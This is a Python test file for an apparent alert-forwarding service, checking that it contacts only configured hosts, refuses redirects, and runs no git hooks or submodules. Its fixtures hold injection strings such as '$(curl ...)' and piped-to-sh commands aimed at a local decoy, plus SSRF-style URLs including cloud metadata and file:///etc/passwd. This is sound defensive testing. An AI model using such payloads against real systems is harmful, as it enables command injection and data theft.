"""tocsin speaks to the hosts of its configuration and to no other, whatever an alert or a reply says."""

import asyncio
import json
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import aiohttp
import pytest
from aiohttp import web
from pydantic import SecretStr

import gitops_repos
from audited import Audit, audit
from fake_github import REPOSITORY, FakeGitHub
from fake_ntfy import FakeNtfy
from fake_pushover import TOKEN, USER, FakePushover
from git_remotes import SmartHttp
from kit import Process, body, novel, tocsin, until
from scripted import ScriptedServer, Seen
from tocsin.errors import LookupFailed
from tocsin.gitops.git import GitRepository
from tocsin.gitops.github import keeps_archives
from tocsin.gitops.layout import Layout
from tocsin.gitops.settings import GitSettings

MARK = "c0ffee-mark"
REDIRECTS = (301, 302, 303, 307, 308)


class Metrics(ScriptedServer):
    """A Prometheus that knows nothing."""

    async def answer(self, seen: Seen, request: web.Request) -> web.StreamResponse:
        return web.json_response({"status": "success", "data": {"resultType": "vector", "result": []}})


class Decoy(ScriptedServer):
    """Where nobody may come."""

    async def answer(self, seen: Seen, request: web.Request) -> web.StreamResponse:
        return web.Response(text="welcome")


class Redirecting(ScriptedServer):
    """Sends everybody to `elsewhere`, with one status after the other."""

    def __init__(self, elsewhere: str) -> None:
        super().__init__()
        self._elsewhere = elsewhere

    async def answer(self, seen: Seen, request: web.Request) -> web.StreamResponse:
        status = REDIRECTS[len(self.requests) % len(REDIRECTS)]
        return web.Response(status=status, headers={"Location": f"{self._elsewhere}{seen.path}"})


@pytest.fixture
async def decoy() -> AsyncIterator[Decoy]:
    async with Decoy() as server:
        yield server


def address(url: str) -> str:
    return urlsplit(url).netloc


def hostile(decoy: Decoy) -> list[bytes]:
    """Webhooks with an address in every field that takes text, and words for a shell, a template and a path."""
    url = f"{decoy.url}/{MARK}"
    shell = f"$(curl {url}); `curl {url}` | sh; ../../{MARK} %(x)s {{{{ {url} }}}}"
    around = {
        "externalURL": url,
        "groupKey": url,
        "receiver": shell,
        "groupLabels": {"a": url},
        "commonLabels": {"a": url},
        "commonAnnotations": {"a": url},
    }
    texts = {"summary": url, "description": shell, "runbook_url": url, "dashboard": url, "pod": url}
    looked_up = novel(f"{MARK}.example", instance=url, prometheus=url, job=shell, url=url, annotations=texts)
    everywhere = novel(url, namespace=url, workload=shell, pod=url, cluster=url, annotations=texts)
    volume = {**everywhere, "labels": {**everywhere["labels"], "alertname": "EgressVolumeAnomaly"}}
    unknown = {**everywhere, "labels": {**everywhere["labels"], "alertname": url}}
    alerts = [{**each, "generatorURL": url} for each in (looked_up, everywhere, volume, unknown)]
    return [body({**each, "fingerprint": f"{number}" * 16}, **around) for number, each in enumerate(alerts)]


def settings(directory: Path, *, ntfy: str, pushover: str, prometheus: str, gitops: dict[str, Any]) -> dict[str, Any]:
    return {
        "prometheus": {"url": prometheus, "token": "p"},
        "gitops": gitops,
        "retry": {"first_after": "10ms", "at_most": "10ms"},
        "channels": {
            "phone": {"type": "ntfy", "url": ntfy, "topic": "egress", "token": "n"},
            "second": {"type": "pushover", "url": pushover, "token": TOKEN, "user": USER},
        },
    }


async def post(process: Process, *webhooks: bytes) -> None:
    async with aiohttp.ClientSession() as session:
        for data in webhooks:
            async with session.post(f"{process.url}/webhook", data=data) as response:
                assert response.status == 200, await response.text()


def nothing_from_an_alert(audit: Audit) -> None:
    """No program but git was started, and nothing an alert says is a name, a word or a file."""
    assert audit.commands and {Path(words[0]).name for words in audit.commands} == {"git"}
    assert audit.other_ways == []
    assert MARK not in json.dumps([audit.commands, sorted(audit.resolved), audit.opened])
    assert any(path.endswith("tocsin.yaml") for path in audit.opened), "files are recorded at all"


async def test_an_alert_full_of_addresses_leads_nowhere(
    tmp_path: Path, decoy: Decoy, monkeypatch: pytest.MonkeyPatch
) -> None:
    record = audit(tmp_path / "audit", monkeypatch)
    repository = gitops_repos.recyclarr(tmp_path / "origin").path / ".git"
    async with FakeNtfy() as ntfy, FakePushover() as pushover, Metrics() as metrics:  # noqa: SIM117
        async with SmartHttp(repository, "g").serving() as remote:
            configured = settings(
                tmp_path,
                ntfy=ntfy.url,
                pushover=pushover.url,
                prometheus=metrics.url,
                gitops={"git": {"url": remote.url, "token": "g", "data_directory": str(tmp_path / "data")}},
            )
            async with tocsin(tmp_path, configured) as process:
                await until(lambda: (tmp_path / "data" / "mirror.git").exists())
                await post(process, *hostile(decoy))
                await until(lambda: [entry["event"] for entry in process.log].count("decided") >= 4)
                await until(lambda: ntfy.received and pushover.received)
            remotes = (ntfy.url, pushover.url, metrics.url, remote.url)
    assert record.contacted == {address(each) for each in remotes}, "all of them, and no other"
    assert record.resolved <= {"127.0.0.1"}
    assert decoy.requests == []
    nothing_from_an_alert(record)
    assert MARK in json.dumps([ntfy.received, pushover.received]), "it was told, not followed"


async def test_a_redirect_of_any_system_is_not_followed(
    tmp_path: Path, decoy: Decoy, monkeypatch: pytest.MonkeyPatch
) -> None:
    record = audit(tmp_path / "audit", monkeypatch)
    async with (
        Redirecting(decoy.url) as ntfy,
        Redirecting(decoy.url) as pushover,
        Redirecting(decoy.url) as metrics,
        Redirecting(decoy.url) as remote,
    ):
        servers = (ntfy, pushover, metrics, remote)
        configured = settings(
            tmp_path,
            ntfy=ntfy.url,
            pushover=pushover.url,
            prometheus=metrics.url,
            gitops={"git": {"url": f"{remote.url}/home.git", "token": "g", "data_directory": str(tmp_path / "data")}},
        )
        async with tocsin(tmp_path, configured) as process:
            number = 0
            async with asyncio.timeout(40):
                while min(len(each.requests) for each in servers[:3]) < len(REDIRECTS) or not remote.requests:
                    number += 1
                    await post(process, body(novel(f"n{number}.example", workload=f"w{number}")))
                    await asyncio.sleep(0.02)
    assert record.contacted == {address(each.url) for each in servers}, "all of them, and no other"
    assert decoy.requests == []
    reasons = json.dumps(process.log)
    assert "ntfy redirects" in reasons and "redirects elsewhere; set gitops.git.url" in reasons


@pytest.mark.parametrize(
    ("place", "status", "said"),
    [
        ("", 301, "GitHub sends elsewhere; is gitops.github.base_url right?"),
        *(("", status, f"GitHub answered {status}") for status in REDIRECTS[1:]),
        *(("/tarball/", status, "GitHub sends elsewhere for the archive") for status in (302, 307)),
        ("/archive/", 302, "the archive answered 302"),
    ],
    ids=lambda each: str(each).strip("/").replace("/", "-"),
)
async def test_github_sends_nobody_to_another_host(
    tmp_path: Path, decoy: Decoy, monkeypatch: pytest.MonkeyPatch, place: str, status: int, said: str
) -> None:
    record = audit(tmp_path / "audit", monkeypatch)
    fake = FakeGitHub(gitops_repos.recyclarr(tmp_path / "origin").path)
    fake.trouble_at, fake.trouble = place, (status, {"Location": f"{decoy.url}/x"}, "{}")
    async with fake.serving() as github:
        configured = {"gitops": {"github": {"repository": REPOSITORY, "base_url": github.url, "token": "g"}}}
        async with tocsin(tmp_path, configured) as process:
            await until(lambda: [entry for entry in process.log if entry["event"].startswith("gitops_")])
    assert record.contacted == {address(github.url)}
    assert decoy.requests == []
    assert said in json.dumps(process.log)


@pytest.mark.parametrize("status", REDIRECTS)
async def test_git_takes_its_token_to_no_other_host(tmp_path: Path, decoy: Decoy, status: int) -> None:
    async def answer(request: web.Request) -> web.Response:
        return web.Response(status=status, headers={"Location": f"{decoy.url}{request.path_qs}"})

    app = web.Application()
    app.router.add_route("*", "/{path:.*}", answer)
    runner = web.AppRunner(app)
    await runner.setup()
    try:
        await web.TCPSite(runner, "127.0.0.1", 0).start()
        url = f"http://127.0.0.1:{runner.addresses[0][1]}/ada/home.git"
        adapter = GitRepository(GitSettings(url=url, token=SecretStr("g"), data_directory=tmp_path / "data"), Layout())
        with pytest.raises(LookupFailed, match=r"^redirects elsewhere; set gitops\.git\.url to its real address"):
            await adapter.refresh()
    finally:
        await runner.cleanup()
    assert decoy.requests == []


@pytest.mark.parametrize(
    ("url", "protocol"),
    [
        ("https://git.example/ada/home.git", "https"),
        ("http://git.example/ada/home.git", "http"),
        ("ssh://git@git.example/ada/home.git", "ssh"),
        ("git@git.example:ada/home.git", "ssh"),
        ("file:///srv/home.git", "file"),
    ],
)
async def test_git_speaks_the_protocol_of_its_address_only(tmp_path: Path, url: str, protocol: str) -> None:
    """So that an address which something else puts in its place (`insteadOf`, an advertised bundle) leads nowhere."""
    origin = gitops_repos.recyclarr(tmp_path / "origin")
    adapter = GitRepository(GitSettings(url=url, data_directory=tmp_path / "data"), Layout())
    git = adapter._git
    git.directory.parent.mkdir(parents=True)
    await git.run("init", "--quiet", "--bare", "--template=")
    for other in {
        "https": "https://127.0.0.1:9/x",
        "file": f"file://{origin.path}",
        "ssh": "ssh://127.0.0.1:9/x",
    }.items():
        if other[0] != protocol:
            with pytest.raises(LookupFailed, match=f"transport '{other[0]}' not allowed"):
                await git.run("ls-remote", other[1])


async def test_a_repository_that_is_only_read_is_read_without_any_transport(tmp_path: Path) -> None:
    origin = gitops_repos.recyclarr(tmp_path / "origin")
    adapter = GitRepository(GitSettings(path=origin.path), Layout())
    with pytest.raises(LookupFailed, match="transport 'file' not allowed"):
        await adapter._git.run("ls-remote", f"file://{origin.path}")
    await adapter.refresh()
    assert adapter.snapshot().sha == origin.git("rev-parse", "HEAD")


async def test_no_hook_and_no_submodule_of_a_mirror_is_run_or_fetched(tmp_path: Path, decoy: Decoy) -> None:
    origin = gitops_repos.recyclarr(tmp_path / "origin")
    origin.commit("Submodule", {".gitmodules": f'[submodule "x"]\n\tpath = x\n\turl = {decoy.url}/x.git\n'})
    origin.git("update-index", "--add", "--cacheinfo", f"160000,{origin.git('rev-parse', 'HEAD')},x")
    origin.git("commit", "--quiet", "--message=Link")
    adapter = GitRepository(GitSettings(url=f"file://{origin.path}", data_directory=tmp_path / "data"), Layout())
    await adapter.refresh()
    mirror = tmp_path / "data" / "mirror.git"
    for name in ("post-update", "reference-transaction", "pre-auto-gc", "post-fetch"):
        hook = mirror / "hooks" / name
        hook.parent.mkdir(exist_ok=True)
        hook.write_text(f"#!/bin/sh\ntouch {tmp_path}/sprung\n")
        hook.chmod(0o755)
    (mirror / "config").write_text(
        (mirror / "config").read_text() + "[submodule]\n\trecurse = true\n[fetch]\n\trecurseSubmodules = true\n"
    )
    origin.commit("More", {"more.yaml": gitops_repos.policy("more", gitops_repos.WORLD, namespace="media")})
    await adapter.refresh()
    assert adapter.snapshot().sha == origin.git("rev-parse", "HEAD")
    assert not (tmp_path / "sprung").exists()
    assert decoy.requests == []


@pytest.mark.parametrize(
    ("link", "base_url", "expected"),
    [
        ("https://codeload.github.com/a/b/legacy.tar.gz/x", "https://api.github.com", True),
        ("https://api.github.com/x", "https://api.github.com", True),
        ("https://git.example/_codeload/x", "https://git.example/api/v3", True),
        ("https://codeload.git.example/x", "https://git.example/api/v3", True),
        ("https://codeload.lab.ghe.com/x", "https://api.lab.ghe.com", True),
        ("http://codeload.github.com/x", "https://api.github.com", False),
        ("https://codeload.github.com.evil.example/x", "https://api.github.com", False),
        ("https://codeload.github.com@evil.example/x", "https://api.github.com", False),
        ("https://codeload.github.com:444/x", "https://api.github.com", False),
        ("https://github.com/x", "https://api.github.com", False),
        ("https://169.254.169.254/x", "https://api.github.com", False),
        ("file:///etc/passwd", "https://api.github.com", False),
        ("https://[", "https://api.github.com", False),
        ("", "https://api.github.com", False),
    ],
)
def test_archives_come_from_github_itself(link: str, base_url: str, expected: bool) -> None:
    assert keeps_archives(link, base_url) is expected
